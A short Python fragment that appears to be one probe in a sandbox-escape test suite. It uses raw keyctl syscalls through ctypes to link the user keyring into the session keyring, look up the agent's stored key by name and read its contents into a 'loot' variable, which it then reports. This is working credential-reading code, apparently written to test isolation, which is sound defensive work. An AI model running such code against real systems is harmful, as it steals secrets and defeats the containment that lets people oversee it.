# [secret read] The agent keeps a key in its uid's user keyring; link that keyring into our session and read it.
# ruff: noqa: F821 - a fragment: tests/escape/run.py prepends os, time, ESCAPE, report, attempt, keep
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
KEYCTL = 250 if os.uname().machine == "x86_64" else 219
LINK, SEARCH, READ = 8, 10, 11
USER_KEYRING, SESSION_KEYRING = -4, -3
tries = {"link_user_into_session": libc.syscall(KEYCTL, LINK, USER_KEYRING, SESSION_KEYRING)}
key = libc.syscall(KEYCTL, SEARCH, USER_KEYRING, b"user", ESCAPE["agent_key_name"].encode(), 0)
tries["search"] = key
loot = b""
if key >= 0:
    buffer = ctypes.create_string_buffer(256)
    length = libc.syscall(KEYCTL, READ, key, buffer, 256)
    loot = buffer.raw[: max(0, length)]
    tries["read"] = length
report(tries=tries, loot=loot.decode(errors="replace"), errno=ctypes.get_errno())
